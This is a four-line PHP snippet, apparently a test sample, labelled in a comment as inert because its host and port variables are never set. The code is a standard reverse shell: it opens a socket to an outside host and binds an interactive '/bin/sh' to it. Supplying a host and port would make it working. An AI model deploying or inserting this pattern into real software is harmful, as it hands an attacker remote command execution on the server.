<?php
// inert test sample: host/port are never defined
$s = fsockopen($host, $port);
$p = proc_open('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $pipes);
